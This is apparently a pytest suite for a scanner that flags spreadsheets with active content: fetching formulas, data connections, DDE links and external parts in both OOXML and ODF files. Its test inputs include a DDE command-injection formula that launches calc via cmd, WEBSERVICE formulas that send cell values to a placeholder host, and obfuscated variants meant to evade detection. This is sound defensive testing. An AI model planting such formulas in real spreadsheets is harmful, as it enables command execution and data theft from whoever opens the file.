"""Spreadsheets that fetch: formulas, connections and links are found wherever they stand."""

from __future__ import annotations

import pytest

from tests.support.attached import sheet
from tests.support.odd_files import look, odf, office, zipped
from tests.support.sheets import (
    CELL,
    CONNECTION,
    MASHUP,
    SHEET,
    calculating,
    naming,
    open_sheet,
    other_part,
    with_part,
)

EVADING = '<?xml version="1.0"?>' + CELL % "&#87;EB<!-- -->SERVICE(A1)"
EXTERNAL = b'<pivotCacheDefinition xmlns="m"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'
IN_OBJECT = b"<a formula='of:=WEBSERVICE(1)'/>"
SOURCE = '<table:table-source xlink:href="http://192.0.2.1/a.ods" table:table-name="A"/>'
PICTURE = '<draw:image xlink:href="%s"/>'
LINK = '<text:a xlink:href="http://192.0.2.1/">x</text:a>'


@pytest.mark.parametrize(
    ("data", "active"),
    [
        (calculating('WEBSERVICE("http://192.0.2.1/?"&A2)'), ("fetching_formula",)),
        (calculating('_xlfn.IMAGE("http://192.0.2.1/a.png")'), ("fetching_formula",)),
        (calculating('rtd ("a",,"b")'), ("fetching_formula",)),
        (calculating("cmd|' /C calc'!A0"), ("dde",)),
        (calculating("'Bảng \"a'!A1+WEBSERVICE(A2)"), ("fetching_formula",)),
        (naming("WEBSERVICE(A1)"), ("fetching_formula",)),
        (other_part(SHEET, EVADING.encode()), ("fetching_formula",)),
        (other_part(SHEET, (CELL % "WEBSERVICE(A1)").encode("utf-16")), ("fetching_formula",)),
        (with_part("xl/media/a.png", (CELL % "IMAGE(A1)").encode()), ("fetching_formula",)),
        (with_part("xl/connections.xml", CONNECTION), ("data_connection",)),
        (with_part("xl/queryTables/queryTable1.xml", b'<queryTable xmlns="m"/>'), ("data_connection",)),
        (with_part("customXml/item1.xml", MASHUP), ("data_connection",)),
        (with_part("xl/pivotCache/pivotCacheDefinition1.xml", EXTERNAL), ("data_connection",)),
        (with_part("xl/externalLinks/externalLink1.xml", b'<a><ddeLink ddeService="cmd"/></a>'), ("dde",)),
        (open_sheet(formula="of:=COM.MICROSOFT.WEBSERVICE([.A1])"), ("fetching_formula",)),
        (open_sheet(formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"), ("dde",)),
        (open_sheet(formula="of:=['file:///a.ods'#$Sheet1.A1]"), ("external_part",)),
        (open_sheet(SOURCE), ("external_part",)),
        (open_sheet(PICTURE % "http://192.0.2.1/a.png"), ("external_part",)),
        (open_sheet(PICTURE % "../a.png"), ("external_part",)),
        (odf("spreadsheet", **{"Object 1/content.xml": IN_OBJECT}), ("fetching_formula",)),
    ],
)  # fmt: skip
def test_what_fetches_is_found(data: bytes, active: tuple[str, ...]) -> None:
    """Whatever part it stands in, however it is written, behind a name or in a condition."""
    found = look(data)
    assert (found.active, set(found.warnings)) == (active, {"active_content", "office_file"})


@pytest.mark.parametrize(
    "data",
    [
        sheet(),
        calculating('IF(B1="";"Ảnh | a|b";B1&" | "&C1)'.replace(";", ",")),
        calculating('HYPERLINK("http://192.0.2.1/","x")'),
        calculating("MYIMAGE(A1)+RECALL(A2)"),
        with_part("xl/drawings/vmlDrawing1.vml", b"<xml><br>image</xml>"),
        with_part("xl/media/a.png", b"\x89PNG\r\n\x1a\n"),
        open_sheet(PICTURE % "Pictures/a.png"),
        open_sheet(LINK),
        open_sheet(formula="of:=SUM({1;2|3;4})"),
    ],
)
def test_what_calculates_only_is_left_in_peace(data: bytes) -> None:
    """Words that look alike, arrays, links that wait for a click, pictures inside the file."""
    assert (look(data).active, look(data).warnings) == ((), ("office_file",))


def test_a_file_that_two_programs_read_differently() -> None:
    """Two parts of one name, and a file of both families of office files."""
    with pytest.warns(UserWarning, match="Duplicate name"):
        twice = with_part(SHEET, b"<worksheet/>")
    both = zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                   "[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<a/>"})  # fmt: skip
    assert set(look(twice).warnings) == {"office_file", "unreadable"}
    assert set(look(both).warnings) == {"office_file", "polyglot"}
    assert look(office()).warnings == ("office_file",)
